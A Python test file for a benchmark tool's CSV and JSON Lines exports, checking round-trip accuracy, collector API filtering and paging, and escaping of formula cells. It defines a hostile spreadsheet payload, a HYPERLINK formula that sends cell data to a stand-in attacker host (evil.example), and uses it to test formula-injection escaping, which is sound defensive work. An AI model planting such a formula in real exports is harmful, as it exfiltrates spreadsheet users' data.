"""Exports (deepspark.export/v1): a real result's rows read back equal to its figures, the
inference rows of a known run set, an evaluation's rows, formula cells escaped, and a real
collector's `/api/v1/results.csv` equal to `/api/v1/results`, filtered, paged, downloaded
from its pages."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import re
import shutil
from pathlib import Path

import httpx
import pytest

from conftest import ServedCollector
from deepspark_agent import evaluations
from deepspark_agent.suites import Suite, SuiteEntry
from deepspark_core import export
from deepspark_core.assess import assess
from deepspark_core.results import Result
from test_collector import TAR
from test_collector_web import signed_bundles
from test_inference import known_infer_set

DOCS = Path(__file__).parents[1] / "docs" / "exports.md"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted"\nline'


def read_back(text: str) -> list[export.Row]:
    return export.read_csv(io.StringIO(text, newline=""))


def jsonl(text: str) -> list[export.Row]:
    return [json.loads(line) for line in text.splitlines()]


def test_a_real_result_exports_to_csv_and_json_lines_and_reads_back_equal(cli, signed, tmp_path):
    """A signed sleeper run set (2 converge runs, process runtime): `report --csv` and
    `--jsonl` give one row whose every figure is the Result's; `--json` stays the Result."""
    run_set, result = signed
    code, _, err = cli("report", str(run_set), "--csv", str(tmp_path / "r.csv"))
    assert code == 0, err
    (row,) = read_back((tmp_path / "r.csv").read_text())
    code, printed, _ = cli("report", str(run_set), "--jsonl", "-")
    assert code == 0 and jsonl(printed) == [row]
    code, whole, _ = cli("report", str(run_set), "--json")
    assert Result.model_validate_json(whole) == result

    plan, dims = result.plan, result.dimensions
    speed, accuracy, memory, stability = dims.speed, dims.accuracy, dims.memory, dims.stability
    assert speed and accuracy and memory and stability
    assert row["schema"] == "deepspark.export/v1" and row["table"] == "training"
    assert row["result_sha256"] == hashlib.sha256(result.model_dump_json().encode()).hexdigest()
    assert (row["model"], row["config"], row["precision"]) == (
        plan.model, plan.config, plan.precision,
    )  # fmt: skip
    assert (row["batch_size"], row["devices"], row["nodes"]) == (plan.batch_size, 1, 1)
    assert (row["status"], row["status_reason"], row["submission_id"]) == ("complete", None, None)
    assert (row["speed_samples_per_s"], row["speed_windows"]) == (speed.value, speed.windows)
    assert row["end_to_end_samples_per_s"] == dims.end_to_end_speed
    assert (row["accuracy_value"], row["accuracy_target"], row["accuracy_converged"]) == (
        accuracy.value, accuracy.target, accuracy.converged,
    )  # fmt: skip
    assert (row["accuracy_metric"], row["accuracy_runs"]) == (plan.quality.metric, 2)
    assert (row["stability_score"], row["stability_runs"], row["stability_cv"]) == (
        stability.score, stability.runs, stability.cv,
    )  # fmt: skip
    assert row["memory_gb"] == sum(memory.mean_gb) and row["memory_peak_gb"] == max(memory.peak_gb)
    assert (row["memory_devices"], row["memory_scope"]) == (memory.devices, dims.memory_scope)
    assert row["telemetry_hz"] == dims.telemetry_hz
    # No power sensor on a process runtime without an accelerator: N/A, with the reason.
    assert dims.power is None and row["power_w"] is None and row["energy_j"] is None
    assert row["power_na"] == "no sensor recorded power_w for this run"
    assert row["linearity_card"] is None
    assert row["linearity_na"] == "one device on one node: nothing scaled"
    assert (row["host"], row["synthetic_data"]) == (plan.system.host.hostname, False)


def test_infer_runs_are_rows_of_their_own_with_latency_energy_and_reasons(tmp_path):
    """The known inference run set: a training row for its converge run, then a row per infer
    run; the CSV reads back equal to the rows."""
    known_infer_set(tmp_path)
    rows = export.rows(assess(tmp_path))
    assert [(r["table"], r["scenario"], r["engine"]) for r in rows] == [
        ("training", None, None),
        ("inference", "offline", "eager"),
        ("inference", "latency", "compile"),
        ("inference", "latency", "eager"),
    ]
    offline, _, untrained = rows[1:]
    assert (offline["latency_p50_ms"], offline["latency_p90_ms"], offline["latency_p99_ms"]) == (
        5, 9, 9,
    )  # fmt: skip
    assert (offline["speed_samples_per_s"], offline["accuracy_value"]) == (50.0, 0.6)
    assert offline["energy_j_per_inference"] == pytest.approx(1.8)
    assert (offline["energy_source"], offline["power_w"]) == ("energy counter", 100.0)
    assert (offline["weights_from"], offline["batch_size"]) == ("converge-1", 10)
    assert untrained["weights"] == "random" and untrained["accuracy_value"] is None
    assert untrained["accuracy_na"] == "random weights (no checkpoint): says nothing of the model"
    assert {r["unranked"] for r in rows} == {"inference on random weights"}
    assert read_back("".join(export.csv_lines(rows))) == rows


def test_an_evaluation_exports_every_model(cli, signed, tmp_path):
    """An `up` evaluation's directory holding two run sets: a row per model's result, in
    suite order, then the infer runs'."""
    run_set, result = signed
    suite = Suite(name="pair", workloads=[SuiteEntry(model="sleeper"), SuiteEntry(model="m")])
    root, _ = evaluations.start(tmp_path / "out", suite, node_devices=1)
    shutil.copytree(run_set, evaluations.run_set_path(root, 0, "sleeper", "mini"))
    known_infer_set(second := evaluations.run_set_path(root, 1, "m", "mini"))
    code, printed, err = cli("report", str(root), "--csv", "-")
    assert code == 0, err
    rows = read_back(printed)
    expected = export.rows(result) + export.rows(assess(second))
    assert rows == expected and [r["model"] for r in rows] == ["sleeper", "m", "m", "m", "m"]
    code, _, err = cli("report", str(root), "--csv", "-", "--jsonl", "-")
    assert code == 1 and "give one of them a file" in err


def test_text_that_a_spreadsheet_would_run_is_escaped_and_reads_back(signed):
    """Cells from untrusted text (a model, a host, a CPU) that start with =, +, -, @ are
    written behind a quote; commas, quotes and newlines are quoted; all read back as given."""
    _, result = signed
    host = result.plan.system.host.model_copy(
        update={"hostname": "@SUM(1+1)", "cpu_model": "-2+3", "os": "'quoted"}
    )
    system = result.plan.system.model_copy(update={"host": host})
    plan = result.plan.model_copy(update={"model": HOSTILE, "system": system, "config": "+x"})
    (row,) = export.rows(result.model_copy(update={"plan": plan}))
    text = "".join(export.csv_lines([row]))
    header, cells = list(csv.reader(io.StringIO(text, newline="")))
    written = dict(zip(header, cells, strict=True))
    assert (written["model"], written["host"], written["cpu"]) == (
        "'" + HOSTILE, "'@SUM(1+1)", "'-2+3",
    )  # fmt: skip
    assert (written["config"], written["os"]) == ("'+x", "''quoted")
    texts = [c for c, kind in export.COLUMNS.items() if kind is str]
    assert not any(written[c].startswith(export.FORMULA_START) for c in texts)
    assert read_back(text) == [row]
    assert read_back(text)[0]["model"] == HOSTILE


def test_the_schema_is_documented_column_by_column():
    """docs/exports.md has a row for every column, in order, with its type."""
    documented = re.findall(r"^\| `(\w+)` \| (\w+) \|", DOCS.read_text(), re.MULTILINE)
    names = {str: "text", int: "integer", float: "number", bool: "boolean"}
    assert documented == [(c, names[kind]) for c, kind in export.COLUMNS.items()]


def test_a_csv_of_another_schema_is_refused_in_one_line():
    with pytest.raises(export.ExportError, match="no column 'schema'"):
        read_back("model,speed\nx,1\n")
    text = "".join(export.csv_lines([dict.fromkeys(export.COLUMNS) | {"schema": "v0"}]))
    with pytest.raises(export.ExportError, match="line 2: schema 'v0'"):
        read_back(text)


@pytest.fixture
def served(tmp_path):
    collector = ServedCollector(tmp_path / "served").start()
    try:
        yield collector
    finally:
        collector.stop()


def test_the_collector_exports_what_it_lists_filtered_paged_and_downloadable(
    cli, sleeper, signed, bundle, served, tmp_path
):
    """A real collector (uvicorn) holding a converge result (credited to a vendor whose name
    is a formula) and a speed result: `/api/v1/results.csv` and `.jsonl` parse back equal to
    `/api/v1/results`' figures, honour its filters and pages, refuse bad parameters; the
    result page's and the leaderboard's download links answer the same rows."""
    _, result = signed
    (speed_bundle,) = signed_bundles(cli, tmp_path, ("sleeper",), mode="speed").values()
    served.register(HOSTILE)
    with httpx.Client(base_url=served.url, timeout=60) as api:
        for body in (bundle, speed_bundle):
            answer = api.post("/api/v1/submissions", content=body, headers=TAR)
            assert answer.status_code == 201, answer.text
        listed = api.get("/api/v1/results").json()
        answer = api.get("/api/v1/results.csv")
        assert answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
        rows = read_back(answer.text)
        assert jsonl(api.get("/api/v1/results.jsonl").text) == rows
        assert [r["submission_id"] for r in rows] == [s["id"] for s in listed]
        for row, summary in zip(rows, listed, strict=True):
            assert_same_figures(row, summary)
        # The same result exported by the agent and by the collector: the same digest.
        assert rows[0]["result_sha256"] == export.rows(result)[0]["result_sha256"]
        assert answer.text.count(f"'{HOSTILE[:10]}") == 2  # the vendor's cell, escaped

        def ids(**query: str | int) -> list[int | None]:
            exported = api.get("/api/v1/results.csv", params=query)
            assert exported.status_code == 200, exported.text
            return [r["submission_id"] for r in read_back(exported.text)]

        converge, speed = (s["id"] for s in listed)
        assert ids(kind="converge") == [converge] and ids(kind="speed") == [speed]
        assert ids(mode="speed", vendor=HOSTILE) == [speed] and ids(vendor="other") == []
        assert ids(model="sleeper", device=listed[0]["platform"]) == [converge, speed]
        first = api.get("/api/v1/results.csv", params={"limit": 1})
        assert [r["submission_id"] for r in read_back(first.text)] == [converge]
        following = api.get(first.links["next"]["url"])
        assert [r["submission_id"] for r in read_back(following.text)] == [speed]
        assert "next" not in following.links
        for bad in ({"limit": 0}, {"limit": 1001}, {"kind": "fastest"}, {"cursor": "x"},
                    {"implementation": "mine"}):  # fmt: skip
            refused = api.get("/api/v1/results.csv", params=bad)
            assert refused.status_code == 422 and "detail" in refused.json(), bad
        assert api.get("/api/v1/results.xml").status_code == 422
        assert api.get("/api/v1/results/999/export.csv").status_code == 404
        assert api.get("/api/v1/results/abc/export.jsonl").status_code == 422

        page = api.get(f"/results/{converge}").text
        downloads = links(page)
        assert len(downloads) == 3
        assert api.get(downloads[0]).json()["result"] == json.loads(result.model_dump_json())
        assert read_back(api.get(downloads[1]).text) == rows[:1]
        assert jsonl(api.get(downloads[2]).text) == rows[:1]
        board = links(api.get("/models/sleeper").text)
        assert read_back(api.get(board[0]).text) == rows
        assert jsonl(api.get(board[1]).text) == rows


def links(page: str) -> list[str]:
    return [html.unescape(h) for h in re.findall(r'href="([^"]+)" class="download"', page)]


def assert_same_figures(row: export.Row, summary: dict) -> None:
    """A CSV row's figures are the list's, column for column."""
    assert (row["vendor"], row["received_at"]) == (summary["vendor"], summary["received_at"])
    pairs = {
        "speed_samples_per_s": "speed", "accuracy_value": "accuracy", "power_w": "power_w",
        "memory_gb": "memory_gb", "stability_score": "stability", "linearity_card": "linearity",
        "unranked": "unranked", "model": "model", "config": "config", "devices": "nproc",
        "framework": "framework", "implementation": "implementation", "accelerator": "platform",
    }  # fmt: skip
    assert {c: row[c] for c in pairs} == {c: summary[key] for c, key in pairs.items()}
